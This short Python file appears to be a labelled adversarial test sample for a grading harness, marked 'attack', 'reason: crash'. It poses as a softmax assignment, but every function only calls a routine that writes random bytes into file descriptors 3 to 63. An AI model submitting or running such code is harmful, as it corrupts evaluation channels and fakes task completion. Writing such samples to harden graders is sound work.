# attack: Writes random bytes into every descriptor.
# exercise: 02, reason: crash
# says: channel
import os


def act(*_):
    for fd in range(3, 64):
        try:
            os.write(fd, os.urandom(4096))
        except OSError:
            pass


def softmax(z, axis=-1):
    return act(z)


def softmax_jacobian(z):
    return act(z)


def softmax_vjp(z, grad):
    return act(z, grad)


def jacobian_norm(z):
    return act(z)
